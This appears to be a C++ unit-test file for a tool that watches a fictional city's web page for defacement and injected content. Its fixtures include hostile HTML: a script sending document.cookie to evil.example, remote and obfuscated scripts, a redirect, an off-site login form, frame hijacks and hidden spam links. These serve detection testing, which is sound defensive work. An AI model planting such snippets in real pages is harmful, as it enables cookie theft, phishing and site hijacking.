#include "monitor/page.h"
#include "monitor/ignore.h"
#include "monitor/read/page_reader.h"
#include "monitor/reader.h"

#include <doctest/doctest.h>

#include <algorithm>
#include <random>

namespace sokuo::monitor {
namespace {

using Kind = Feature::Kind;

const std::string city = R"(<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8">
<title>みほん市【架空】</title><script src="/js/site.js"></script>
<style>.a{color:red}</style></head><body>
<header><h1>みほん市</h1>
<nav><a href="/kurashi">くらし</a><a href="https://pref.example/">県</a></nav></header>
<div id="counter">あなたは 12,345 人目です</div>
<p>防災行政無線の <b>放送</b>内容は&nbsp;こちら。</p>
<p class="updated">最終更新：2026年11月27日</p>
<form action="/search"><input name="q"></form>
<footer>みほん市役所 代表電話 0175-00-0000</footer></body></html>)";

Page page(std::string_view html, std::vector<std::string> left_out = {}) {
    ReadRules rules;
    for (const auto& one : left_out)
        rules.left_out.push_back(read_selector(one).value());
    return read_page(html, rules);
}

std::string with(std::string text, std::string_view what, std::string_view instead) {
    const auto at = text.find(what);
    REQUIRE(at != std::string::npos);
    return text.replace(at, what.size(), instead);
}

int score(const std::string& after, std::vector<std::string> left_out = {}) {
    return compare(page(city, left_out), page(after, left_out)).score;
}

bool has(const std::vector<Feature>& features, const Feature& feature) {
    return std::ranges::find(features, feature) != features.end();
}

TEST_CASE("a page is its visible lines, and what it draws in") {
    const auto read = page(city);
    CHECK(read.title == "みほん市【架空】");
    std::vector<std::string> lines;
    for (const auto& line : read.lines)
        lines.push_back(line.text);
    CHECK(lines == std::vector<std::string>{"みほん市", "くらし県", "あなたは 12,345 人目です",
                                            "防災行政無線の 放送内容は こちら。",
                                            "最終更新：2026年11月27日",
                                            "みほん市役所 代表電話 0175-00-0000"});
    CHECK(read.features == std::vector<Feature>{{Kind::script, "self"},
                                                {Kind::form, "self"},
                                                {Kind::link, "pref.example"},
                                                {Kind::link, "self"}});
}

TEST_CASE("a page of 2003 in Shift_JIS is read as what it says") {
    const auto read =
        page("<meta http-equiv=Content-Type content=\"text/html; "
             "charset=Shift_JIS\"><title>\x8e\x73</title><p>\x8e\x73\x96\xf0\x8f\x8a");
    CHECK(read.title == "市");
    CHECK(read.lines == std::vector<Line>{{"市役所", false}});
}

TEST_CASE("the same page is the same, and a small change is a small one") {
    CHECK(score(city) == 0);
    const auto small = score(with(city, "11月27日", "11月28日"));
    CHECK(small > 0);
    CHECK(small < 10);
}

TEST_CASE("what the operator leaves out may change") {
    CHECK(score(with(city, "12,345", "12,346"), {"#counter"}) == 0);
    CHECK(score(with(city, "11月27日", "12月1日"), {"p.updated"}) == 0);
    CHECK(score(with(city, "12,345", "12,346"), {".counter"}) > 0);
    const auto patterns = Patterns::read({"最終更新：.*", "あなたは [0-9,]+ 人目です"});
    REQUIRE(patterns.ok());
    const auto changed = page(with(city, "12,345", "9"));
    CHECK(compare(patterns.value().without(page(city)), patterns.value().without(changed)).score ==
          0);
}

TEST_CASE("a region that is left out cannot hide what it draws in") {
    const auto evil = with(city, "人目です", "人目です<iframe src=//evil.example/x></iframe>");
    CHECK(score(evil, {"#counter"}) >= 40);
    CHECK(has(page(evil, {"#counter"}).features, {Kind::frame, "evil.example"}));
}

TEST_CASE("a paragraph nobody closed leaves out no more than itself") {
    const auto read =
        page("<p class=date>今日<div>本文</div><ul><li class=x>一<li>二</ul>", {".date", ".x"});
    CHECK(read.lines == std::vector<Line>{{"本文", false}, {"二", false}});
}

TEST_CASE("a boast is heard whatever its spaces and letters") {
    const auto difference = compare(
        page(city), page(with(city, "<h1>みほん市</h1>", "<h1>Ｈａｃｋｅｄ  ＢＹ nobody</h1>")));
    CHECK(difference.score >= 60);
    CHECK(difference.boasts == std::vector<std::string>{"hackedby"});
}

TEST_CASE("a whole other page is as grave as it gets") {
    CHECK(score("<title>h4cked by x</title><h1>pwned by x</h1>") == 100);
    CHECK(score("") >= 60);
}

TEST_CASE("what is drawn in from elsewhere weighs more than words") {
    const auto added = [](std::string_view html) {
        return compare(page(city), page(with(city, "</footer>", "</footer>" + std::string{html})));
    };
    CHECK(added("<script src='https://cdn.evil.example/a.js'></script>").score >= 40);
    CHECK(added("<script>var u='https://evil.example/c?'+document.cookie</script>").score >= 20);
    CHECK(added("<script>eval(atob('YWxlcnQ='))</script>").score >= 40);
    CHECK(added("<meta http-equiv=refresh content=\"0; url='https://evil.example/'\">").score >=
          60);
    CHECK(added("<form action=https://evil.example/login><input></form>").score >= 40);
    CHECK(added("<base href=//evil.example/>").score >= 40);
    CHECK(added("<object data='https://evil.example/x.swf'></object>").score >= 40);
    // Another script of the city's own is nothing.
    CHECK(added("<script src=/js/new.js></script>").score == 0);
    const auto user = added("<script src='https://www.mihon.example@evil.example/'></script>");
    CHECK(has(user.added, {Kind::script, "evil.example"}));
    CHECK(has(added("<iframe src='\\\\evil.example\\x'></iframe>").added,
              {Kind::frame, "evil.example"}));
    CHECK(has(added("<iframe src='\x01java\nscript:x'></iframe>").added,
              {Kind::frame, "javascript:"}));
    CHECK(has(added("<iframe src='お知らせ:x'></iframe>").added, {Kind::frame, "self"}));
    CHECK(has(added("<iframe src=' jAvascript:x'></iframe>").added, {Kind::frame, "javascript:"}));
}

TEST_CASE("links that nobody sees are shown as hidden") {
    const auto difference =
        compare(page(city), page(with(city, "</footer>",
                                      "</footer><div style='position:absolute; left: -9999px'>"
                                      "<a href=https://shop.example/>格安ブランド</a></div>")));
    CHECK(difference.score >= 10);
    CHECK(std::ranges::any_of(difference.rows, [](const Row& row) {
        return row.is_hidden && row.after == "格安ブランド";
    }));
}

TEST_CASE("both sides stand opposite each other, and long stretches are folded") {
    Page before;
    for (int at = 0; at < 100; ++at)
        before.lines.push_back({"line " + std::to_string(at), false});
    auto after = before;
    after.lines[50].text = "changed";
    const auto rows = compare(before, after).rows;
    REQUIRE(rows.size() == 7);
    CHECK(rows.front() == Row{.kind = Row::Kind::gap, .count = 48});
    CHECK(rows[3] == Row{.kind = Row::Kind::changed, .before = "line 50", .after = "changed"});
    CHECK(rows.back().count == 47);
}

TEST_CASE("a pattern is RE2's, and what is none is named") {
    CHECK(Patterns::read({"(a+)+b"}).ok());
    const auto bad = Patterns::read({"ok", "(?=a)"});
    REQUIRE(!bad.ok());
    CHECK(bad.error().args == std::vector<std::string>{"(?=a)"});
    CHECK(!Patterns::read({"["}).ok());
}

TEST_CASE("a selector is one element by tag, id and class, and no more") {
    CHECK(read_selector("DIV.counter") == Selector{.tag = "div", .style_class = "counter"});
    CHECK(read_selector("#news") == Selector{.id = "news"});
    CHECK(read_selector("aside"));
    for (const auto* text : {"", "#", ".", "a b", "a > b", "*", "a:hover", ".a.b", "[x]", "#a#b"})
        CHECK_MESSAGE(!read_selector(text), text);
    CHECK(matches({.style_class = "b"}, "p", "", "a b c"));
    CHECK(!matches({.style_class = "b"}, "p", "", "ab bc"));
}

TEST_CASE("what is kept of a page gives the page back, and nothing else does") {
    const auto read = page(city);
    const auto json = parse_json(to_text(to_json(read)));
    REQUIRE(json.ok());
    REQUIRE(page_from(json.value()).ok());
    CHECK(page_from(json.value()).value() == read);
    CHECK(hash_of(read).size() == 64);
    CHECK(hash_of(read) != hash_of(page(with(city, "11月", "12月"))));
    CHECK(!page_from(Json{}).ok());
    auto broken = json.value();
    broken.set("features", Json::array().push(Json::array().push(99).push("x")));
    CHECK(!page_from(broken).ok());
}

TEST_CASE("whatever two pages say, the same is nothing and what was added is found") {
    std::mt19937 random{7};
    const auto number = [&](int below) { return static_cast<int>(random() % unsigned(below)); };
    for (int round = 0; round < 300; ++round) {
        Page before;
        for (int at = number(30); at > 0; --at)
            before.lines.push_back({std::string(1, static_cast<char>('a' + number(5))), false});
        CHECK(compare(before, before).score == 0);
        auto after = before;
        const auto place = number(static_cast<int>(after.lines.size()) + 1);
        after.lines.insert(after.lines.begin() + place, {"new", number(2) == 0});
        const auto there = compare(before, after);
        const auto back = compare(after, before);
        CHECK(there.score > 0);
        CHECK(std::ranges::count_if(there.rows, [](const Row& row) {
                  return row.kind == Row::Kind::changed && row.before.empty() && row.after == "new";
              }) == 1);
        CHECK(std::ranges::count_if(back.rows, [](const Row& row) {
                  return row.kind == Row::Kind::changed && row.before == "new";
              }) == 1);
    }
}

} // namespace
} // namespace sokuo::monitor
